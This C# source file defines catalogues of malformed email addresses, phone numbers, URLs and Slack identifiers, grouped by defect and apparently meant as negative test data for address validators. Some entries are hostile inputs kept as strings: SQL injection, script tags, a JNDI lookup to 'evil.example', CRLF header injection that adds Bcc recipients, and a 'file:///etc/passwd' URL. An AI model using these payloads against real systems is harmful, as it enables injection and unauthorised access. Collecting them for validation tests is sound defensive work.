namespace Notify.Addresses;

/// <summary>Texts that are no address, by what is wrong with them. Where one could think otherwise, the reason stands beside it.</summary>
internal static class BadAddresses
{
    public static readonly IReadOnlyDictionary<string, string[]> Emails = new Dictionary<string, string[]>
    {
        ["parts missing"] = ["", "alice", "@", "alice@", "@example.com", "alice.example.com", "alice@.", "alice@.com"],
        ["too many signs"] = ["a@b@example.com", "alice@@example.com", "alice@example.com,bob@example.com", "alice@example.com;bob@example.com"],
        ["quotes and comments"] = // legal by RFC 5321 and given out by nobody; each is a way past a careless parser
            ["\"alice\"@example.com", "\"a b\"@example.com", "\"a@b\"@example.com", "alice\"@example.com", "alice(work)@example.com", "alice@(work)example.com", "al\\ice@example.com"],
        ["a name beside it"] = ["Alice <alice@example.com>", "<alice@example.com>", "mailto:alice@example.com", "alice@example.com (Alice)"],
        ["blanks"] = [" ", " alice@example.com", "alice@example.com ", "al ice@example.com", "alice@exam ple.com", "alice@example.com\t", "al\u00a0ice@example.com", "alice@example.com\u3000", "al\u2003ice@example.com"],
        ["invisible characters"] =
            ["al\u200bice@example.com", "alice@example.com\u200b", "al\u200cice@example.com", "al\u200dice@example.com", "\ufeffalice@example.com", "al\u00adice@example.com", "al\u2060ice@example.com", "al\u3164ice@example.com", "al\u115fice@example.com", "al\u2800ice@example.com", "al\u034fice@example.com"],
        ["direction of writing"] = ["alice\u202e@example.com", "\u200falice@example.com", "alice@exa\u2066mple.com"],
        ["control characters"] = ["al\u0000ice@example.com", "alice@example.com\u0000", "al\u0007ice@example.com", "alice\u007f@example.com", "al\u0085ice@example.com"],
        ["header injection"] =
            ["alice@example.com\r\nBcc: eve@example.com", "alice@example.com\nBcc: eve@example.com", "alice@example.com\r", "alice%0d%0a\r\n@example.com", "alice@example.com>\r\nRCPT TO:<eve@example.com", "alice\u2028@example.com", "alice\u2029@example.com"],
        ["dots"] = ["alice..b@example.com", ".alice@example.com", "alice.@example.com", "alice@example..com", "alice@.example.com", "alice@example.com.", "alice@..", "...@example.com"],
        ["hyphens"] = ["alice@-example.com", "alice@example-.com", "alice@example.-com", "alice@example.com-"],
        ["hosts that are addresses"] = // mail to a number is refused by every large receiver, and a test of who is inside the network
            ["alice@[127.0.0.1]", "alice@[IPv6:::1]", "alice@127.0.0.1", "alice@192.168.1.1", "alice@2130706433", "alice@[::1]", "alice@example.123"],
        ["hosts with strange characters"] = ["alice@exam_ple.com", "alice@exam!ple.com", "alice@example.com/path", "alice@example.com:25", "alice@exam'ple.com", "alice@exam%ple.com", "alice@example.com?subject=x", "alice@exam#ple.com", "alice@*.example.com"],
        ["hosts of symbols"] = ["alice@\U0001f600.com", "alice@i\u2764.ws", "alice@xn--e28h.com"], // some registries sell them; IDNA 2008 has no symbols, and many receivers refuse them
        ["punycode that decodes to nothing"] = ["alice@xn--.com", "alice@xn--a.com", "alice@xn--999999999.com", "alice@xn--example.xn--", "alice@xn---.com", "alice@example.xn--55555555555555", "alice@xn--b\u00fccher.example"],
        ["letters that only look like other signs"] = // another spelling of the same host: it would slip past suppression
            ["alice\uff20example.com", "alice@\uff45xample.com", "alice@example\u3002com", "alice@example\uff0ecom", "alice@example\uff61com", "alice@exa\u2044mple.com", "alice@\u2100example.com"],
        ["broken Unicode"] = ["al\ud800ice@example.com", "al\udc00ice@example.com", "alice@exam\ufffdple.com", "al\ue000ice@example.com", "alice@exam\uffffple.com"],
        ["SQL"] = ["'; DROP TABLE subscribers; --", "alice@example.com'; DROP TABLE subscribers;--", "alice' OR '1'='1"],
        ["markup"] = ["<script>alert(1)</script>@example.com", "alice@example.com<script>", "{{user.email}}", "${jndi:ldap://evil.example/a}"],
        ["too long"] =
        [
            $"{new string('a', 65)}@example.com", // 64 octets before the sign
            $"{new string('\u00e9', 33)}@example.com", // 66 octets
            $"alice@{new string('a', 64)}.com", // 63 in a label
            $"alice@{new string('\u00fc', 63)}.com", // 63 letters, but more in punycode
            $"alice@{string.Join('.', Enumerable.Repeat("abcdefgh", 28))}.com", // 255 octets in all
            new string('a', 100_000),
        ],
    };

    public static readonly IReadOnlyDictionary<string, string[]> Phones = new Dictionary<string, string[]>
    {
        ["nothing"] = ["", " ", "+", "-"],
        ["national form"] = ["0151 12345678", "015112345678", "4155550100", "14155550100", "(415) 555-0100"],
        ["international prefix"] = ["004915112345678", "0114915112345678"], // which prefix it is depends on where one calls from
        ["letters"] = ["+1415555CALL", "+1-800-FLOWERS", "phone", "+4915112345678a", "tel:+4915112345678", "+49151123O5678"],
        ["too short"] = ["+1", "+12", "+123456"], // the shortest numbers with their country's code have seven digits
        ["too long"] = ["+1234567890123456", "+4915112345678901234567890", $"+{new string('1', 10_000)}"],
        ["extension"] = ["+14155550100x12", "+14155550100 ext. 12", "+14155550100;ext=12", "+14155550100,12", "+14155550100#12", "+14155550100*"],
        ["zero first"] = ["+015112345678", "+0", "+00491511234567"],
        ["writing"] = ["+49-151-12345678", "+49 151 12345678", "+49.151.12345678", "+49/151/12345678", "+1(415)5550100", "+49(0)15112345678"], // one spelling, so that two are never the same
        ["signs"] = ["++4915112345678", "+4915112345678+", "4915112345678+", "+-4915112345678", "\uff0b4915112345678"],
        ["other digits"] = ["+\uff14\uff19\uff11\uff15\uff11\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18", "+\u0664\u0669\u0661\u0665\u0661\u0661\u0662\u0663\u0664\u0665", "+49151\u00b2\u00b34567", "+\ud835\udfd2\ud835\udfd7\ud835\udfcf\ud835\udfd3\ud835\udfcf\ud835\udfd0\ud835\udfd1"],
        ["blanks and control characters"] = [" +4915112345678", "+4915112345678 ", "+4915112345678\n", "+49151\u200b12345678", "\u202a+4915112345678\u202c", "+49151\u000012345678", "+4915112345678\r\nX: y"],
        ["SQL"] = ["+49151' OR 1=1--", "1; DROP TABLE subscribers"],
    };

    public static readonly IReadOnlyDictionary<string, string[]> Urls = new Dictionary<string, string[]>
    {
        ["no URL"] = ["", " ", "example.com", "www.example.com/hook", "/relative", "//example.com/hook", "?q=1", "https", "https:", "https://", "http:///path", "https:example.com", "https:/example.com/hook", "://example.com"],
        ["other schemes"] = ["javascript:alert(1)", "file:///etc/passwd", "ftp://example.com/", "data:text/html,hello", "gopher://example.com/", "ws://example.com/", "mailto:alice@example.com", "ldap://example.com/", "jar:https://example.com!/", "java\tscript:alert(1)"],
        ["user name and password"] = ["https://user:secret@example.com/", "https://user@example.com/", "https://:secret@example.com/", "https://@example.com/", "https://example.com@evil.example/", "https://a%40b:c@example.com/"],
        ["header injection"] = ["https://example.com/\r\nX-Evil: 1", "https://example.com/\nHost: evil.example", "https://example.com/\r", "https://exam\r\nple.com/"],
        ["blanks"] = [" https://example.com/", "https://example.com/ ", "https://example.com/a b", "https://exam ple.com/", "https://example.com/\t", "\u00a0https://example.com/", "https://example.com/\u3000"],
        ["invisible and control characters"] = ["https://example.com/\u200b", "https://exam\u200bple.com/", "\ufeffhttps://example.com/", "https://example.com/\u202egnp.exe", "https://example.com/\u0000", "https://example.com/\u007f"],
        ["signs that parsers read differently"] = ["https:\\\\example.com\\hook", "https://example.com\\@evil.example/", "https://example.com/\"onload=", "https://example.com/<script>", "<https://example.com/>"],
        ["hosts"] = ["https://.example.com/", "https://example..com/", "https://exam%00ple.com/", "https://[example.com]/", "https://[::1/", "https://exam!ple.com/", "https://-/"],
        ["zones"] = ["http://[fe80::1%25eth0]/", "http://[fe80::1%eth0]/", "https://[fe80::1%251]:8443/hook"], // mean something on one machine only
        ["ports"] = ["https://example.com:99999/", "https://example.com:-1/", "https://example.com:port/", "https://example.com:0/"],
        ["broken Unicode"] = ["https://example.com/\ud800", "https://exam\udc00ple.com/", "https://example.com/\ufffd"],
        ["too long"] = [$"https://example.com/{new string('a', 2_030)}", $"https://{new string('a', 64)}.com/", $"https://example.com/{new string('a', 100_000)}"],
    };

    /// <summary>For Slack: neither an id, a name nor a webhook.</summary>
    public static readonly IReadOnlyDictionary<string, string[]> SlackAddresses = new Dictionary<string, string[]>
    {
        ["ids"] = ["C", "C1", "c012345678", "X012345678", "C01234567\u0430", "C0123 45678", "C012345678\n", "C012345678901234567890", "\uff23012345678", "T012345678"],
        ["names"] = ["#", "general", "#General", "#gen eral", "#general\n", "#gen\u200beral", "#gen\u202eeral", "##general", "#gen/eral", "#gen@eral", "#\U0001f600", $"#{new string('a', 81)}", "@alice"],
        ["webhooks"] =
        [
            "https://hooks.slack.com/", "https://hooks.slack.com/workflows/T0/B0/x", "https://user@hooks.slack.com/services/T0/B0/x", "https://@hooks.slack.com/services/T0/B0/x",
            "https://hooks.slack.com/services/T0/B0/x?y=1", "https://hooks.slack.com/services/T0/B0/x#y", "ftp://hooks.slack.com/services/T0/B0/x", " https://hooks.slack.com/services/T0/B0/x",
            "https://hooks.slack.com/services/T0/B0/x\r\nX: y", "https:\\\\hooks.slack.com\\services\\T0\\B0\\x", "https://hooks.slack.com/services/T0/B0/\u200bx", "hooks.slack.com/services/T0/B0/x",
            $"https://hooks.slack.com/services/{new string('x', 2_048)}",
        ],
        ["others"] = ["Default", "default ", "alice@example.com", "+4915112345678", "'; DROP TABLE x; --"],
    };
}
